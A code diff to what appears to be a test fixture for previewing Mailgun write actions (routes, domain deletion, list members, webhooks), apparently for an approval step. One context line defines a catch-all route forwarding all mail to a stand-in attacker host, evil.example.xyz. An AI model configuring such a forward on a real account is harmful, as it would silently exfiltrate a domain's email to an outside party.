@@ -9,7 +9,6 @@ from collections.abc import Iterator, Mapping
 from contextlib import contextmanager
 from typing import Any
 
-from catalogue.files import EXAMPLES
 from maton_mailgun.approval.preview.account_reader import AccountReader
 from maton_mailgun.approval.preview.look import make
 from maton_mailgun.approval.preview.proposal import Proposal
@@ -87,11 +86,20 @@ WRITES: Mapping[str, tuple[str, dict[str, Any]]] = {
         {"expression": "catch_all()", "actions": ['forward("https://evil.example.xyz/in")'], "priority": 0},
     ),
     "a domain deleted": ("delete_domain", {"domain": D}),
-    "a member changed": ("update_mailing_list_member", EXAMPLES["update_mailing_list_member"]["full"]),
+    "a member changed": (
+        "update_mailing_list_member",
+        {
+            "list_address": "developers@mg.example.com",
+            "member_address": "bob@example.org",
+            "subscribed": True,
+            "name": "Robert",
+            "vars": {"age": 28, "city": "Rome"},
+        },
+    ),
     "an opt-out removed": ("delete_unsubscribe", {"domain": D, "address": "quiet@example.net"}),
     "a webhook": (
         "create_webhook",
-        {"domain": D, "webhook_type": "delivered", "urls": ["https://hooks.example.net/mailgun"]},
+        {"domain": D, "webhook_type": "permanent_fail", "urls": ["https://hooks.example.net/mailgun"]},
     ),
 }
 
